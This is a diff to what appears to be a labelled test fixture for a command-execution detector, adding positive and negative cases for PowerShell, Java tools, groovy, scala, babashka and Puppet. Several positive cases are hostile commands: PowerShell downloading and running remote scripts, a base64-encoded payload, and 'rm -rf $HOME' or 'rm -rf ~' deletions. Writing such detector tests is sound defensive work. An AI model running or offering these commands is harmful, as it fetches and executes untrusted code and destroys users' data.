@@ -10,6 +10,10 @@ ruby -e 'system("id")'
 php -r 'system("id");'
 #@ pos perl backticks
 perl -e 'print `id`'
+#@ neg awk's negated patterns before an action or alone
+gawk -i inplace '!/# added by oldtool$/ { print }' "$HOME/.bashrc"
+awk '!/^#/' config.txt
+awk '!/^$/ && !/^#/ { n++ } END { print n }' config.txt
 #@ neg awk arithmetic
 awk '{ s += $1 } END { print s }' data.txt
 #@ neg awk printing the word system
@@ -122,6 +126,57 @@ swipl -g "shell('rm -rf ~')" -t halt
 gprolog --init-goal "shell('id'), halt"
 #@ neg swipl running tests
 swipl -g run_tests -t halt tests.pl
+#@ pos PowerShell downloads a script and evaluates it with iex
+pwsh -NoProfile -Command "Invoke-WebRequest https://203.0.113.7/s.ps1 | Invoke-Expression"
+#@ pos PowerShell starts a process
+powershell -c 'Start-Process -FilePath sh -ArgumentList "-c","id"'
+#@ pos PowerShell code given in base64
+pwsh -NoProfile -EncodedCommand SQBFAFgAIAAoAGkAdwByACAAdQApAA==
+#@ pos PowerShell on its stdin evaluates a download
+pwsh -NoProfile -Command - <<'PS'
+$wc = New-Object Net.WebClient
+iex $wc.DownloadString("https://203.0.113.8/x.ps1")
+PS
+#@ neg PowerShell lists files and prints its version
+pwsh -NoProfile -Command 'Get-ChildItem ./scripts -Filter *.ps1 | Select-Object -ExpandProperty Name'
+pwsh -NoProfile -ExecutionPolicy Bypass -File ./build.ps1
+#@ pos jshell on a here-document starts a ProcessBuilder
+jshell -q <<'J'
+new ProcessBuilder("sh", "-c", "id").inheritIO().start().waitFor();
+/exit
+J
+#@ pos jrunscript calls Runtime.exec
+jrunscript -e 'java.lang.Runtime.getRuntime().exec("id")'
+#@ pos groovy runs a list or a variable as a process
+groovy -e '["sh", "-c", "id"].execute().text'
+groovy -e 'def c = args[0]; c.execute().waitFor()' "rm -rf $HOME"
+#@ pos scala's sys.process
+scala -e 'import sys.process._; "id".!'
+#@ pos babashka's shell on its stdin
+echo '(shell "sh" "-c" "id")' | bb -i
+#@ neg groovy reads a file and runs an SQL statement
+groovy -e 'println new File("a.txt").readLines().size()'
+groovy -e 'def sql = groovy.sql.Sql.newInstance("jdbc:h2:mem:t"); sql.execute("create table t(x int)")'
+#@ pos Puppet code with an exec resource
+sudo puppet apply -e 'exec { "x": command => "/bin/id" }'
+#@ pos Puppet code read from a here-document, an exec on a line of its own
+m=$(cat <<PP
+package { 'git': ensure => installed }
+exec { 'reset':
+  command => '/bin/rm -rf /tmp/x',
+}
+PP
+)
+puppet apply --verbose -e "$m"
+#@ pos Puppet code in a string over several lines
+puppet apply -e "include base
+exec { 'x': command => '/bin/id' }"
+#@ neg Puppet code that installs a package and keeps a service running
+sudo puppet apply -e "package { ['git', 'htop']: ensure => installed }"
+puppet apply -e "service { 'cron': ensure => running, enable => true }"
+#@ neg jshell and bb print versions
+echo 'System.out.println(Runtime.version());' | jshell -q -
+bb -e '(println (System/getProperty "java.version"))'
 #@ pos an nmap script that starts a shell
 cat > /tmp/p.nse <<'L'
 action = function() os.execute("sh -c 'id'") end
